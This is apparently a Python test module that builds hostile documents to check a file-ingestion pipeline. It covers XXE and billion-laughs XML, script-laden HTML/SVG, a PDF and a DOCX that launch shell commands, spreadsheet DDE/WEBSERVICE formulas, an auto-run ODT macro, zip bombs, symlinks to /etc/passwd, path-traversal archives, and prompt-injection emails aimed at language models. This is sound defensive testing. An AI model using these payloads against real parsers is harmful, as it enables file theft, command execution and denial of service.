"""Documents that reach for a server, for files of this machine, or for all of its memory."""

from __future__ import annotations

import io
import json
import os
import tarfile
import zipfile
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

import docx
import openpyxl
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from tests.ingestion import files, office_files
from tests.ingestion.test_archives import tarred, zipped

WORDS = "Visible words of the page."
RAN = "SCRIPT-RAN"
SECRET = "CONTENT-OF-A-FILE-OF-THIS-MACHINE"
INJECTION = Path(os.environ.get("FOOTNOTE_TEST_DATA", "../shared/data")) / "injection"
_BOMB_BYTES = 300 * 1024**2


@dataclass(frozen=True, slots=True)
class Targets:
    """What the documents reach for."""

    url: str
    """A server."""
    secret: Path
    """A file that holds the secret."""
    marker: Path
    """A file that is there once a document could write it."""


def hostile_documents(targets: Targets) -> dict[str, bytes]:
    """Each document by its name."""
    texts = {
        "page.html": _page(targets),
        "drawing.svg": _drawing(targets),
        "bomb.xml": _entities(targets),
        "notes.md": f"# Notes\n\n{WORDS}\n\n"
        f"![picture]({targets.url}/md.png)\n\n{_script(targets)}\n",
        "notes.rst": f"Notes\n=====\n\n{WORDS}\n\n.. include:: {targets.secret}\n\n"
        f".. raw:: html\n   :url: {targets.url}/raw\n\n"
        f".. csv-table::\n   :file: {targets.secret}\n\n"
        f".. image:: {targets.url}/rst.png\n",
        "notes.adoc": f"= Notes\n\n{WORDS}\n\ninclude::{targets.secret}[]\n\n"
        f"include::{targets.url}/adoc[]\n\nimage::{targets.url}/a.png[]\n",
        "paper.tex": "\\documentclass{article}\\begin{document}\n"
        f"{WORDS}\n\n\\input{{{targets.secret}}}\n\\write18{{touch {targets.marker}}}\n"
        f"\\includegraphics{{{targets.url}/tex.png}}\n\\end{{document}}\n",
        "letter.eml": "From: a@example.com\nTo: b@example.com\nSubject: Hello\nMIME-Version: 1.0\n"
        "Content-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/html\n\n"
        f"{_page(targets)}\n--x\nContent-Type: message/external-body; access-type=URL;\n"
        f' URL="{targets.url}/body"\n\nContent-Type: text/plain\n\n\n--x--\n',
    }
    return {
        **{name: text.encode() for name, text in texts.items()},
        "form.pdf": _form(targets),
        "contract.docx": _contract(targets),
        "bomb.docx": office_files.word(
            office_files.p(WORDS), parts={"footnotes.xml": _entities(targets)}
        ),
        "prices.xlsx": _prices(targets),
        "minutes.odt": _minutes(targets),
        "book.epub": zipped({"mimetype": b"application/epub+zip", **_book(targets)}),
        **_archives(targets),
    }


def injections() -> dict[str, bytes]:
    """Mails of the shared data that give orders to a language model."""
    lines = (INJECTION / "email-train.jsonl").read_text(encoding="utf-8").splitlines()
    return {
        f"mail-{number}.txt": json.loads(line)["context"].encode()
        for number, line in enumerate(lines[:5])
    }


def _script(targets: Targets) -> str:
    return (
        f"<script src='{targets.url}/a.js'></script><script>document.write('SCRIPT' + '-RAN');"
        f"fetch('{targets.url}/fetch'); new Image().src = '{targets.url}/image';</script>"
    )


def _page(targets: Targets) -> str:
    url = targets.url
    return f"""<!DOCTYPE html [<!ENTITY secret SYSTEM "file://{targets.secret}">]>
<html><head><base href="{url}/"><meta http-equiv="refresh" content="0; url={url}/refresh">
<link rel="stylesheet" href="{url}/a.css"><link rel="preload" href="{url}/b" as="font">
<style>@import url("{url}/c.css"); body {{ background: url("{url}/d.png") }}</style>
{_script(targets)}</head><body onload="document.write('SCRIPT' + '-RAN')"><p>{WORDS} &secret;</p>
<img src="{url}/e.png" srcset="{url}/f.png 2x" onerror="alert(1)"><iframe src="{url}/g"></iframe>
<iframe src="file://{targets.secret}"></iframe><object data="{url}/h"></object>
<embed src="{url}/i"><video src="{url}/j"></video><audio src="{url}/k"></audio>
<form action="{url}/l"><input type="image" src="{url}/m"></form>
<img src="file://{targets.secret}"><a href="javascript:document.write('SCRIPT' + '-RAN')">x</a>
</body></html>"""


def _drawing(targets: Targets) -> str:
    url = targets.url
    return f"""<?xml version="1.0"?><?xml-stylesheet href="{url}/a.css"?>
<!DOCTYPE svg [<!ENTITY remote SYSTEM "{url}/entity"><!ENTITY secret SYSTEM "{targets.secret}">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
<script>document.write('SCRIPT' + '-RAN')</script><text>{WORDS}</text>
<image xlink:href="{url}/a.png"/><use xlink:href="{url}/b.svg#x"/>
<foreignObject><iframe src="{url}/c"/></foreignObject></svg>"""


def _entities(targets: Targets) -> str:
    """The billion laughs, and entities from outside."""
    laughs = "".join(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 12))
    return (
        f'<?xml version="1.0"?><!DOCTYPE a SYSTEM "{targets.url}/dtd" [<!ENTITY lol0 "lol">{laughs}'
        f'<!ENTITY secret SYSTEM "file://{targets.secret}">'
        f'<!ENTITY % remote SYSTEM "{targets.url}/parameter">%remote;]>'
        f"<a>{WORDS}&secret;&lol11;</a>"
    )


def _form(targets: Targets) -> bytes:
    """A PDF whose actions run when it is opened, printed or closed."""
    url, code = (
        targets.url,
        f"app.launchURL('{targets.url}/js'); this.submitForm('{targets.url}/s')",
    )
    stream = f"BT /F1 12 Tf 72 700 Td ({WORDS}) Tj ET"
    action = (
        f"<< /S /JavaScript /JS ({code.replace('(', chr(92) + '(').replace(')', chr(92) + ')')}) >>"
    )
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R /OpenAction {action} /AA << /WC {action} /WP {action} >> "
        f"/Names << /JavaScript << /Names [(a) {action}] >> >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        f"/AA << /O {action} >> "
        "/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> /Annots [7 0 R 8 0 R] >>",
        f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        f"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /F << /FS /URL /F ({url}/x) >> "
        "/Length 0 >>\nstream\n\nendstream",
        f"<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A << /S /URI /URI ({url}/uri) >> >>",
        f"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Launch /F (/bin/sh) "
        f"/Unix (touch {targets.marker}) >> >>",
    ]
    written, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(written))
        written += f"{number} 0 obj\n{body}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    return (
        written
        + f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}trailer\n"
        f"<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{len(written)}\n%%EOF\n".encode()
    )


def _contract(targets: Targets) -> bytes:
    """A DOCX with a remote template, remote pictures and fields that fetch."""
    document, url = docx.Document(), targets.url
    document.add_paragraph(WORDS)
    for instruction in (
        f'INCLUDEPICTURE "{url}/field.png" \\d',
        f'INCLUDETEXT "{targets.secret}"',
        f'DDEAUTO cmd "touch {targets.marker}"',
    ):
        field = OxmlElement("w:fldSimple")
        field.set(qn("w:instr"), instruction)
        document.add_paragraph()._p.append(field)
    linked = document.part.relate_to(f"{url}/linked.png", RELATIONSHIP_TYPE.IMAGE, is_external=True)
    document.add_picture(io.BytesIO(files.picture(["picture"])))
    [picture] = document.element.body.iter(qn("a:blip"))
    picture.set(qn("r:link"), linked)
    del picture.attrib[qn("r:embed")]
    document.part.relate_to(
        f"file://{targets.secret}", RELATIONSHIP_TYPE.OLE_OBJECT, is_external=True
    )
    settings = document.part._settings_part
    template = OxmlElement("w:attachedTemplate")
    kind = f"{office_files.R}/attachedTemplate"
    template.set(qn("r:id"), settings.relate_to(f"{url}/a.dotm", kind, is_external=True))
    settings.element.append(template)
    return files.saved(document)


def _prices(targets: Targets) -> bytes:
    """An XLSX whose formulas fetch."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"] = WORDS
    sheet["A2"] = f'=WEBSERVICE("{targets.url}/web")'
    sheet["A3"] = f'=HYPERLINK("{targets.url}/link")'
    sheet["A4"] = f"='{targets.url}/[book.xlsx]Sheet1'!A1"
    sheet["A5"] = f'=IMAGE("{targets.url}/image.png")'
    sheet["A6"] = f'=DDE("soffice", "{targets.secret}", "A1")'
    return files.saved(book)


def _minutes(targets: Targets) -> bytes:
    """An ODT with a remote picture, a remote section and a macro that runs when it is opened."""
    url, link = targets.url, 'xlink:type="simple" xlink:actuate="onLoad"'
    body = (
        f"<text:p>{WORDS}</text:p><text:p><draw:frame>"
        f"<draw:image xlink:href='{url}/odt.png' {link}/>"
        "</draw:frame></text:p><text:section text:name='s'><text:section-source "
        f"xlink:href='{url}/section.odt' {link}/></text:section><text:section text:name='t'>"
        f"<text:section-source xlink:href='file://{targets.secret}' {link}/></text:section>"
    )
    script = "http://openoffice.org/2000/script"
    module = (
        f'<script:module xmlns:script="{script}" script:name="M" script:language="StarBasic">'
        f"Sub Main\nOpen &quot;{targets.marker}&quot; For Output As #1\nClose #1\n"
        f"Shell(&quot;touch {targets.marker}&quot;)\nEnd Sub</script:module>"
    )
    library = (
        '<library:library xmlns:library="http://openoffice.org/2000/library" '
        'library:name="Standard" library:readonly="false" library:passwordprotected="false">'
        '<library:element library:name="M"/></library:library>'
    )
    written = office_files.open_document(
        "text",
        body,
        parts={"Basic/Standard/M.xml": module, "Basic/Standard/script-lb.xml": library},
    )
    event = (
        '<office:scripts><office:event-listeners><script:event-listener xmlns:script="urn:oasis:'
        'names:tc:opendocument:xmlns:script:1.0" xmlns:dom="http://www.w3.org/2001/xml-events" '
        'script:language="ooo:script" script:event-name="dom:load" xlink:href='
        '"vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/>'
        "</office:event-listeners></office:scripts><office:automatic-styles>"
    )
    with zipfile.ZipFile(io.BytesIO(written)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    content = members["content.xml"].decode()
    members["content.xml"] = content.replace("<office:automatic-styles>", event, 1).encode()
    return zipped(members)


def _book(targets: Targets) -> Mapping[str, bytes]:
    container = (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
        '<rootfile full-path="b.opf"/></rootfiles></container>'
    )
    package = (
        '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="a.xhtml" '
        f'media-type="application/xhtml+xml"/><item id="r" href="{targets.url}/r.xhtml" '
        'media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/>'
        '<itemref idref="r"/></spine></package>'
    )
    picture = f"<img src='{targets.url}/e.png'/>"
    page = f"<html><body><p>{WORDS}</p>{picture}{_script(targets)}</body></html>"
    return {
        "META-INF/container.xml": container.encode(),
        "b.opf": package.encode(),
        "a.xhtml": page.encode(),
    }


def _archives(targets: Targets) -> dict[str, bytes]:
    nested = zipped({"deepest.txt": WORDS.encode()})
    for level in range(40):
        nested = zipped({f"{level}.zip": nested, f"{level}-again.zip": nested})
    links = io.BytesIO()
    with tarfile.open(fileobj=links, mode="w") as archive:
        for name, target in (("link.txt", str(targets.secret)), ("up.txt", "../../../etc/passwd")):
            for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
                member = tarfile.TarInfo(f"{kind.decode()}-{name}")
                member.type, member.linkname = kind, target
                archive.addfile(member)
        member = tarfile.TarInfo("words.txt")
        member.size = len(WORDS)
        archive.addfile(member, io.BytesIO(WORDS.encode()))
    ways_out = dict.fromkeys(
        (str(targets.marker), "../" * 12 + str(targets.marker)[1:], "..\\..\\x.txt"), b"written"
    )
    return {
        "bomb.zip": zipped({"zeros.txt": bytes(_BOMB_BYTES)}),
        "nested.zip": nested,
        "links.tar": links.getvalue(),
        "out.zip": zipped({**ways_out, "words.txt": WORDS.encode()}),
        "out.tar": tarred({**ways_out, "words.txt": WORDS.encode()}),
    }
